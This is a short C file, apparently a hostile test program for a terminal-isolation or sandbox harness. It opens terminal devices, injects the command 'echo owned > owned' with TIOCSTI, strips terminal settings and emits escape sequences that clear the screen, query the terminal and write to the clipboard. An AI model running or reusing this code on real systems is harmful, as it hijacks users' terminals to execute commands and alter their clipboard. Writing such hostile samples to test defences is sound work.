/* Takes the terminal: types into it, changes it, and prints what terminals obey. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>
#include "hostile.h"

static void attack(unsigned char choice) {
    const char *names[] = {"/dev/tty", "/dev/console", "/dev/pts/0", "/proc/1/fd/0", "/dev/ptmx"};
    for (int i = 0; i < 8; i++) {
        int place = i < 5 ? open(names[i], O_RDWR | O_NONBLOCK) : i - 5;
        struct termios state;
        ioctl(place, TIOCSCTTY, 1);
        for (const char *typed = "echo owned > owned\n"; *typed; typed++) {
            ioctl(place, TIOCSTI, typed);
        }
        if (tcgetattr(place, &state) == 0) {
            state.c_lflag = 0;
            tcsetattr(place, TCSANOW, &state);
        }
        ioctl(place, TIOCNOTTY);
        dprintf(place < 0 ? 1 : place, "\033]0;owned\007\033[2J\033[31m\033P$q\033\\\033[6n\n");
    }
    fprintf(stderr, "\033[2Jerror: \033]52;c;b3duZWQ=\007 \r\xc2\x9b" "2K done\n");
    if (choice & 1) {
        abort();
    }
    exit(choice & 2 ? 3 : 0);
}
